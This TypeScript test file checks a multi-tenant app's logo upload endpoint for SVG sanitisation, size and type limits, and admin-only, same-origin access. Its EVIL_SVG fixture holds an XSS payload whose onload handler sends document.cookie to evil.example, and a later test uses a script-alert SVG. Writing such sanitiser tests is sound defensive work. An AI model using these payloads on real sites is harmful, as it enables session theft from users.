import { eq } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { auditLog, brandAssets } from "@/drizzle/schema";
import { withTenant } from "@/server/db/tenant-context";
import { logoUploadHandler } from "@/server/rest/logo-upload";
import { LOGO_MAX_BYTES } from "@/server/services/branding/brand-image";
import { uploadedLogo } from "@/server/services/branding/logo";
import { getTenant } from "@/server/services/tenant/get-tenant";
import { fixtureDatabase } from "../helpers/fixture-database";
import { testDrivers } from "../helpers/test-database";
import { tinyPng } from "../helpers/tiny-png";

const EVIL_SVG = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10" onload="fetch('https://evil.example/?c='+document.cookie)">
  <script>alert(document.domain)</script>
  <rect width="10" height="10" fill="#0a7" onclick="steal()"/>
  <image xlink:href="https://evil.example/pixel.png" width="1" height="1"/>
  <foreignObject><iframe src="https://evil.example"></iframe></foreignObject>
</svg>`;

describe.each(testDrivers())("logo upload on %s", (driver) => {
  const db = fixtureDatabase(driver);
  let userId: string | null = null;
  const handler = logoUploadHandler({ getDatabase: async () => db.database, getUserId: async () => userId });

  const post = async (file: { bytes: Uint8Array | string; name: string; type: string } | null, headers: Record<string, string> = { origin: "http://app.test", host: "app.test" }) => {
    const form = new FormData();
    if (file) form.set("logo", new File([file.bytes as BlobPart], file.name, { type: file.type }));
    const response = await handler(new Request("http://app.test/api/tenant-logo/t-a", { method: "POST", body: form, headers }), db.a.slug);
    return { status: response.status, body: (await response.json()) as { data?: { removed: string[]; contentType: string }; error?: { code: string; message: string } } };
  };
  const stored = () => withTenant(db.database, db.a.id, (tx) => uploadedLogo(tx));

  it("an SVG with <script>, onload and external references is stored sanitised, and the brand points at it", async () => {
    userId = db.a.users.admin.id;
    const res = await post({ bytes: EVIL_SVG, name: "logo.svg", type: "image/svg+xml" });
    expect(res.status).toBe(200);
    expect(res.body.data?.removed).toEqual(expect.arrayContaining(["<script> element", "onload attribute", "onclick attribute", "<foreignobject> element"]));
    expect(res.body.data?.removed.some((r) => r.startsWith("external reference xlink:href"))).toBe(true);
    const logo = await stored();
    const svg = new TextDecoder().decode(logo!.bytes);
    expect(logo!.contentType).toBe("image/svg+xml");
    expect(svg).toMatch(/^<svg[^>]*viewBox="0 0 10 10"/);
    expect(svg).toContain('fill="#0a7"');
    for (const bad of ["<script", "onload", "onclick", "evil.example", "foreignObject", "iframe"]) expect(svg).not.toContain(bad);
    const { branding } = await withTenant(db.database, db.a.id, (tx) => getTenant(tx, db.a.id));
    expect(branding.logoVersion).toMatch(/^[0-9a-f]{16}$/);
    const audit = await withTenant(db.database, db.a.id, (tx) => tx.select().from(auditLog).where(eq(auditLog.action, "tenant.logo_uploaded")));
    expect(audit).toHaveLength(1);
  });

  it("a PNG is stored as it is", async () => {
    userId = db.a.users.admin.id;
    const png = tinyPng();
    const res = await post({ bytes: png, name: "mark.png", type: "image/png" });
    expect(res.status).toBe(200);
    expect(Buffer.from((await stored())!.bytes).equals(Buffer.from(png))).toBe(true);
  });

  it("an oversized, mislabelled or non-image upload is refused with a message, and the stored logo stays", async () => {
    userId = db.a.users.admin.id;
    const before = await stored();
    const big = new Uint8Array(LOGO_MAX_BYTES + 1);
    big.set(tinyPng());
    const oversized = await post({ bytes: big, name: "big.png", type: "image/png" });
    expect(oversized.status).toBe(413);
    expect(oversized.body.error?.message).toMatch(/at most 256 KB/);

    const mislabelled = await post({ bytes: EVIL_SVG, name: "logo.png", type: "image/png" });
    expect(mislabelled.status).toBe(400);
    expect(mislabelled.body.error).toMatchObject({ code: "bad_request:logo_mislabelled", message: expect.stringContaining("labelled image/png (.png) but its content is an SVG") });

    const notImage = await post({ bytes: "GIF89a....", name: "anim.gif", type: "image/gif" });
    expect(notImage.body.error).toMatchObject({ code: "bad_request:logo_type", message: expect.stringContaining("neither a PNG nor an SVG") });
    const onlyScript = await post({ bytes: "<svg><script>alert(1)</script></svg>", name: "x.svg", type: "image/svg+xml" });
    expect(onlyScript.body.error).toMatchObject({ code: "bad_request:logo_svg", message: expect.stringContaining("Nothing of the SVG image is left") });
    const missing = await post(null);
    expect(missing.body.error?.code).toBe("bad_request:form");
    const rows = await withTenant(db.database, db.a.id, (tx) => tx.select().from(brandAssets));
    expect(rows).toHaveLength(1);
    expect(Buffer.from((await stored())!.bytes).equals(Buffer.from(before!.bytes))).toBe(true);
  });

  it("only admins of the tenant, from the site's own pages, may upload", async () => {
    userId = db.a.users.analyst.id;
    expect((await post({ bytes: tinyPng(), name: "a.png", type: "image/png" })).status).toBe(403);
    userId = null;
    expect((await post({ bytes: tinyPng(), name: "a.png", type: "image/png" })).status).toBe(401);
    userId = db.a.users.admin.id;
    const crossSite = await post({ bytes: tinyPng(), name: "a.png", type: "image/png" }, { origin: "https://evil.example", host: "app.test" });
    expect(crossSite.status).toBe(403);
    expect(crossSite.body.error?.code).toBe("forbidden:cross_site");
  });
});
